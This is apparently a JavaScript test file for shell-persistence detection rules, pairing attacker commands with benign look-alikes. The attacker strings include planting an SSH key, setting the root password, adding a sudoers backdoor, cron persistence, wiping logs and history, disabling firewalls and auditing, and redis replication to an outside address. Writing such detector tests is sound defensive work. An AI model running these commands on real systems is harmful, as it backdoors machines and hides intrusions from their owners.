import { SHELL_PERSISTENCE_RULES } from '../../src/rules/shell-persistence.js'
import { testTwins, typed } from './twins.js'

testTwins(SHELL_PERSISTENCE_RULES, typed, [
  {
    id: 'shell-authorized-keys',
    attack: [
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA mdrfckr">>.ssh/authorized_keys',
      'mkdir -p ~/.ssh',
    ],
    ordinary: ['cat .ssh/authorized_keys', 'ls -la .ssh'],
  },
  {
    id: 'shell-password-change',
    attack: ['echo "root:jBohy6hcgerO"|chpasswd|bash', 'echo -e "a\\na"|passwd', 'passwd root'],
    ordinary: ['passwd', 'man passwd'],
  },
  {
    id: 'shell-password-asked',
    attack: ['LC_ALL=C passwd oracle', 'sudo hive-passwd x21w3r'],
    ordinary: ['passwd', 'ls passwd oracle'],
  },
  {
    id: 'shell-account-created',
    attack: [
      'useradd -m -s /bin/bash support',
      'echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
      'usermod -aG sudo x',
    ],
    ordinary: ['cat users.txt', 'id ann'],
  },
  {
    id: 'shell-cron',
    attack: [
      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
      'echo "@reboot root /x" > /etc/cron.d/x',
      'crontab -r',
    ],
    ordinary: ['crontab -l', 'man cron'],
  },
  { id: 'shell-cron-edited', attack: ['crontab -e'], ordinary: ['crontab -l'] },
  {
    id: 'shell-start-file',
    attack: ['echo /tmp/x >> ~/.bashrc', 'sed -i s/a/b/ /etc/rc.local'],
    ordinary: ['cat /etc/rc.local', 'source ~/.bashrc'],
  },
  {
    id: 'shell-service',
    attack: ['systemctl enable botnet.service', 'update-rc.d x defaults'],
    ordinary: ['systemctl status ssh', 'service --status-all'],
  },
  {
    id: 'shell-history-cleared',
    attack: ['history -c', 'unset HISTFILE', 'rm -rf ~/.bash_history'],
    ordinary: ['history', 'cat ~/.bash_history'],
  },
  {
    id: 'shell-logs-removed',
    attack: ['rm -rf /var/log/*', 'echo > /var/log/wtmp', 'cat /dev/null > /var/log/auth.log'],
    ordinary: ['cat /var/log/auth.log | grep Failed', 'ls /var/log'],
  },
  {
    id: 'shell-traces-removed',
    attack: ['rm -rf bins.sh', 'rm -f x'],
    ordinary: ['rm notes.txt', 'rm -i x'],
  },
  {
    id: 'shell-firewall-off',
    attack: ['iptables -F', 'ufw disable', 'systemctl stop firewalld'],
    ordinary: ['iptables -L', 'ufw status'],
  },
  {
    id: 'shell-defences-off',
    attack: ['setenforce 0', 'systemctl stop fail2ban', 'service stop auditd'],
    ordinary: ['getenforce', 'systemctl status fail2ban'],
  },
  {
    id: 'shell-attributes',
    attack: ['chattr -ia .ssh', 'lockr -ia .ssh'],
    ordinary: ['lsattr .ssh', 'stat .ssh'],
  },
  {
    id: 'shell-hidden-folder',
    attack: ['mkdir .hidden', 'cd .x'],
    ordinary: ['cd ..', 'cd .', 'cd ../src', 'mkdir src'],
  },
  {
    id: 'shell-privilege',
    attack: ['find / -perm -4000 -type f', 'docker run -v /:/mnt alpine', 'chmod u+s /bin/x'],
    ordinary: ['find . -perm 644', 'docker ps'],
  },
  { id: 'shell-sudo-listing', attack: ['sudo -l', 'sudo su'], ordinary: ['sudo apt update'] },
  {
    id: 'shell-redis-takeover',
    attack: ['redis-cli config set dir /var/spool/cron', 'redis-cli slaveof 198.51.100.9 6379'],
    ordinary: ['redis-cli config get dir', 'redis-cli ping'],
  },
])
